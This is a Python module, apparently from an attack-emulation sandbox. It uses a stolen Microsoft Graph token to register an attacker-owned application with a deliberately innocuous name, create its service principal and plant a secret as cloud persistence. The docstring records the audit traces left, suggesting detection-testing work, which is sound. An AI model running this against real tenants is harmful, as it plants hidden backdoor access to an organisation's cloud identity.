"""Attack: an application of the attacker's own, made with a permission of the compromised one.

Technique   T1136.003 Create Account: Cloud Account
Needs       a Graph token with Application.ReadWrite.OwnedBy or .All; whoever creates owns
Leaves      an application, a service principal and a secret; AuditLogs "Add application", initiated by an app
Source      https://learn.microsoft.com/graph/api/application-post-applications
"""

from dataclasses import dataclass

from sandbox.attacks.application_secret_backdoor import PlantedSecret
from sandbox.attacks.application_secret_backdoor import plant as plant_secret
from sandbox.attacks.attacker import Attacker, AttackFailedError

DISPLAY_NAME = "orders-api-sync"  # looks like a part of the same product


@dataclass(frozen=True, slots=True)
class SecondApplication:
    """What was made; nothing of it belongs to anybody else."""

    app_id: str
    application_object_id: str
    object_id: str
    secret: PlantedSecret


async def make(attacker: Attacker, graph_token: str) -> SecondApplication:
    """Register the application, make its service principal, give it a secret."""
    application = await _post(attacker, graph_token, "applications", {"displayName": DISPLAY_NAME})
    principal = await _post(
        attacker, graph_token, "servicePrincipals", {"appId": application["appId"]}
    )
    secret = await plant_secret(attacker, graph_token, application["id"])
    return SecondApplication(application["appId"], application["id"], principal["id"], secret)


async def _post(
    attacker: Attacker, token: str, collection: str, wish: dict[str, str]
) -> dict[str, str]:
    url = f"{attacker.endpoints['graph']}/v1.0/{collection}"
    answer = await attacker.call("POST", url, token, wish)
    if not answer.is_success:
        raise AttackFailedError(f"{collection}: {answer.status_code} {answer.text[:300]}")
    made: dict[str, str] = answer.json()
    return made
